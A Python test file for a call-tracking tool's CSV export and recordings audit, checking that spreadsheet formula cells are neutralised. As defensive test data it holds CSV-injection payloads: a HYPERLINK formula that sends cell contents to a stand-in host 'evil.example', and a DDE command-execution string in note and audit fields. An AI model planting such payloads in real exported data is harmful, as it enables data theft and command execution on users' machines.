"""What the office takes out of bulutpop (KVKK, issue 17): `bulutpop calls --csv` with the
history's filters, and `bulutpop audit` of the recordings played and saved; every cell a
spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io
import time
from datetime import datetime

import pytest

from bulutpop.calls.tracker import CallTracker
from bulutpop.cli import csv_cell
from bulutpop.storage.store import Store
from tests.core.conftest import feed, run_cli

UUID = "6f1c2b1e-8a1d-4c57-9f0e-2d4b1c9e0a01"  # scenario 01: 0212 320 50 62
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Ayrıntı")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cells_that_would_run_as_formulas_are_neutralised() -> None:
    for text in ("=1+1", "+90 212", "-2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    for text in ("0212 320 50 62", "Ayşe", "", "1=1"):
        assert csv_cell(text) == text


@pytest.mark.slow
def test_calls_csv_takes_the_historys_filters_and_neutralises_cells(
    store: Store, tracker: CallTracker
) -> None:
    feed(tracker, "01", "02", "03", "05", "06")
    store.run(_name, store, "+902123205062", HOSTILE)
    store.run(store.write_note, "+902123205062", "=cmd|' /C calc'!A0", "", 1.0)
    every = rows(run_cli("calls", "--csv").stdout)
    assert len(every) == len(store.calls(limit=1000)) == 5
    assert list(every[0]) == [
        "start",
        "direction",
        "number",
        "name",
        "company",
        "outcome",
        "answered_by",
        "queue",
        "duration",
        "recording",
        "call_uuid",
        "note",
    ]
    first = next(r for r in every if r["call_uuid"] == UUID)
    assert first["number"] == "0212 320 50 62" and first["name"] == "'" + HOSTILE
    assert first["outcome"] == "answered by 1001" and first["recording"] == "yes"
    assert first["note"] == "'=cmd|' /C calc'!A0"  # caller notes are exported, neutralised
    stored = store.call(UUID)
    assert stored is not None and stored.start_ts is not None
    assert first["start"] == datetime.fromtimestamp(stored.start_ts).isoformat(
        sep=" ", timespec="seconds"
    )
    # The history window's filters: a number as typed, a name, the direction, missed only.
    by_number = rows(run_cli("calls", "--csv", "--search", "0212 320").stdout)
    assert [r["call_uuid"] for r in by_number] == [UUID]
    by_name = rows(run_cli("calls", "--csv", "--search", "evil").stdout)
    assert [r["call_uuid"] for r in by_name] == [UUID]
    missed = rows(run_cli("calls", "--csv", "--missed-only").stdout)
    assert {r["call_uuid"] for r in missed} == {c.call_uuid for c in store.calls() if c.missed}
    outbound = rows(run_cli("calls", "--csv", "--direction", "outbound").stdout)
    assert {r["direction"] for r in outbound} == {"outbound"} and outbound
    assert len(rows(run_cli("calls", "--csv", "--limit", "2").stdout)) == 2


def _name(store: Store, key: str, name: str) -> None:
    with store.transaction() as conn:
        store.set_local_name(conn, key, name)


def test_audit_lists_plays_and_downloads_since_a_date(store: Store, tracker: CallTracker) -> None:
    feed(tracker, "01")
    day = 86400.0
    store.run(store.record_access, UUID, "play", "this PC", time.time() - 3 * day)
    store.run(store.record_access, UUID, "download", "=cmd|' /C calc'!A0", time.time())
    out = run_cli("audit").stdout.splitlines()
    assert len(out) == 2 and "play" in out[0] and "0212 320 50 62" in out[0] and UUID in out[0]
    since = datetime.fromtimestamp(time.time() - day).strftime("%Y-%m-%d")
    listed = rows(run_cli("audit", "--since", since, "--csv").stdout)
    assert [(r["action"], r["who"], r["number"]) for r in listed] == [
        ("download", "'=cmd|' /C calc'!A0", "0212 320 50 62")
    ]
    bad = run_cli("audit", "--since", "yesterday")
    assert bad.returncode == 2 and "--since" in bad.stderr
